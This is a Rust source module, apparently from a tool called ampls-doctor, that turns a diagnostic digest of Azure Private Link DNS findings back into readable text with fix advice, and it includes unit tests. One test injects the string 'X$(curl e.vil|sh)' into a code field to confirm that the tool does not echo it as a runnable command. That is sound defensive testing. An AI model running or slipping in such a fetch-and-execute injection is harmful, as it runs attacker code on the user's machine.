//! A digest in words once more: what its codes and arguments say, for the person who was sent it.

use std::io::{self, Write};

use super::{LATER, known_or_token, line, put, verdict};
use crate::diagnose::facts::Route;
use crate::diagnose::finding::{Argument, Severity};
use crate::diagnose::rules;
use crate::render::page::{Page, Style, Tint};
use crate::render::words::{explain, severity};
use crate::report::digest::Code;
use crate::report::{Digest, Health};

/// Writes a digest once more in the form it came in, with nothing but what it holds.
pub fn repeat(digest: &Digest, status: u8, out: &mut dyn Write) -> io::Result<()> {
    let digest = with_status(digest, status);
    let mut lines = vec![line(0, &headline(&digest)), line(1, &machine(&digest))];
    lines.extend(digest.resource_id.as_deref().map(|id| line(1, id)));
    for (index, root) in roots(&digest).enumerate() {
        lines.push(line(2 + index, &title(root)));
        let fix = how_to_fix(&root.code).into_iter().next();
        lines.extend(fix.map(|fix| line(LATER + index, &format!("  fix: {fix}"))));
    }
    put(digest, lines, out)
}

/// Writes what a digest says: titles from its codes and arguments, and what their pages say of the fix.
pub fn repeat_for_people(digest: &Digest, status: u8, style: Style, out: &mut dyn Write) -> io::Result<()> {
    let digest = with_status(digest, status);
    let mut page = Page::new(out, style);
    page.wrapped(Tint::Bold, "", "  ", &headline(&digest))?;
    page.wrapped(Tint::Plain, "", "  ", &machine(&digest))?;
    if let Some(id) = &digest.resource_id {
        page.line(Tint::Plain, id)?;
    }
    for root in roots(&digest) {
        page.blank()?;
        page.wrapped(Tint::Bold, "", "  ", &title(root))?;
        // Information calls for nothing: its name says what there is to know.
        let fix = if root.severity.known() == Some(&Severity::Info) { Vec::new() } else { how_to_fix(&root.code) };
        for paragraph in fix {
            page.wrapped(Tint::Plain, "  fix   ", "        ", &paragraph)?;
        }
        let explained: Vec<&str> = digest
            .codes
            .iter()
            .filter(|code| code.by.as_deref() == Some(&root.code))
            .map(|code| code.code.as_str())
            .collect();
        if !explained.is_empty() {
            page.wrapped(Tint::Plain, "  also  ", "        ", &format!("explains {}", explained.join(", ")))?;
        }
        if let Some(command) = explain(&root.code) {
            page.line(Tint::Plain, &format!("  more  {command}"))?;
        }
    }
    page.blank()?;
    let full = "For commands that are filled in, the evidence and every endpoint, run";
    page.wrapped(Tint::Plain, "", "", &format!("{full} on {}:", digest.host))?;
    page.line(Tint::Plain, "    ampls-doctor -o report.json")?;
    page.line(Tint::Plain, &verdict(&digest))
}

fn with_status(digest: &Digest, status: u8) -> Digest {
    let mut digest = digest.clone().bounded();
    digest.verdict.exit = status;
    digest
}

fn headline(digest: &Digest) -> String {
    let answer = &digest.verdict;
    let (route, health) = (known_or_token(&answer.route, Route::as_str), known_or_token(&answer.health, Health::label));
    format!("{}, {health}: repeated from a digest", route.to_uppercase())
}

fn machine(digest: &Digest) -> String {
    let redacted = if digest.redacted { ", redacted: names and addresses are pseudonyms" } else { "" };
    format!("{} {:.0}, ampls-doctor {}{redacted}", digest.host, digest.at, digest.version)
}

fn roots(digest: &Digest) -> impl Iterator<Item = &Code> {
    digest.codes.iter().filter(|code| code.by.is_none())
}

/// A root in a line: its code, the name that this version gives it, and what was observed.
fn title(root: &Code) -> String {
    let name = rules::of_code(&root.code).map_or_else(String::new, |rule| format!(" {}", rule.name));
    // What there can be several of, zones and servers, says more than a word for a case.
    let (lists, words): (Vec<_>, Vec<_>) = root.args.iter().partition(|(_, value)| !matches!(value, Argument::One(_)));
    let observed = lists.into_iter().chain(words);
    let observed: Vec<String> =
        observed.map(|(name, value)| format!("{} {}", name.replace('_', " "), value.text())).collect();
    let names = match root.endpoints {
        0 => String::new(),
        1 => " (1 name)".to_owned(),
        count => format!(" ({count} names)"),
    };
    let observed = if observed.is_empty() { String::new() } else { format!(": {}", observed.join("; ")) };
    format!("{} {}{name}{names}{observed}", known_or_token(&root.severity, severity), root.code)
}

/// What the page of the code says of the fix, a paragraph each; nothing for a code of a later version.
fn how_to_fix(code: &str) -> Vec<String> {
    let Some(rule) = rules::of_code(code) else { return Vec::new() };
    let page = rule.page_markdown();
    let section = page.split("\n## ").find_map(|section| section.strip_prefix("How to fix\n")).unwrap_or_default();
    let paragraphs = section.split("\n\n").map(|paragraph| paragraph.split_whitespace().collect::<Vec<_>>().join(" "));
    paragraphs.filter(|paragraph| !paragraph.is_empty() && !paragraph.starts_with("```")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::render::compact::{MOST, write};
    use crate::report::{FailOn, crowded, exit_status, hostile, mixed, on_a_vm};

    fn compact(report: &crate::report::Report) -> String {
        let mut out = Vec::new();
        write(report, exit_status(report, FailOn::Error), &mut out).unwrap();
        String::from_utf8(out).unwrap()
    }

    fn digest(text: &str) -> Digest {
        serde_json::from_str(text.lines().rev().nth(1).unwrap()).unwrap()
    }

    fn again(digest: &Digest) -> (String, String) {
        let (mut same, mut people) = (Vec::new(), Vec::new());
        repeat(digest, 1, &mut same).unwrap();
        repeat_for_people(digest, 1, Style::default(), &mut people).unwrap();
        (String::from_utf8(same).unwrap(), String::from_utf8(people).unwrap())
    }

    #[test]
    fn a_digest_repeated_says_the_same() {
        let text = compact(&mixed());
        let (same, people) = again(&digest(&text));
        assert_eq!(text.lines().last(), same.lines().last());
        assert_eq!(text.lines().last(), people.lines().last());
        assert_eq!(text.lines().rev().nth(1), same.lines().rev().nth(1));
        assert!(!people.contains("\"kind\""), "{people}");
    }

    #[test]
    fn the_reader_of_a_digest_learns_what_is_wrong_and_how_to_fix_it() {
        let report = on_a_vm(mixed());
        let (same, people) = again(&digest(&compact(&report)));
        for text in [&same, &people] {
            assert!(text.contains("ERROR DNS003 zone-not-linked"), "{text}");
            assert!(text.contains("privatelink.ods.opinsights.azure.com"), "{text}");
            assert!(text.contains(report.host.azure.as_ref().unwrap().resource_id.as_ref().unwrap()), "{text}");
        }
        let first: String = how_to_fix("DNS003")[0].split(' ').take(5).collect::<Vec<_>>().join(" ");
        assert!(people.contains(&format!("  fix   {first}")), "{people}");
        assert!(people.contains("explains NET002") && people.contains("ampls-doctor explain DNS003"), "{people}");
    }

    #[test]
    fn every_rule_says_how_to_fix_it() {
        assert!(rules::RULES.iter().all(|rule| !how_to_fix(rule.code).is_empty()));
        assert!(how_to_fix("ZZZ999").is_empty());
    }

    #[test]
    fn no_code_of_a_digest_becomes_a_line_to_be_typed_unless_it_has_a_page() {
        let mut digest = digest(&compact(&mixed()));
        digest.codes[0].code = "X$(curl e.vil|sh)".to_owned();
        let people = again(&digest).1;
        assert!(people.contains("X$(curl") && !people.contains("doctor explain"), "{people}");
    }

    #[test]
    fn hostile_and_endless_digests_stay_within_their_bounds() {
        for report in [hostile(), crowded(60, 20, true), crowded(400, 300, true)] {
            let (same, people) = again(&digest(&compact(&report)));
            assert!(same.len() <= MOST && same.is_ascii(), "{}", same.len());
            assert!(!people.contains(|c| c != '\n' && crate::text::acts_on_output(c)), "{people:?}");
        }
    }
}
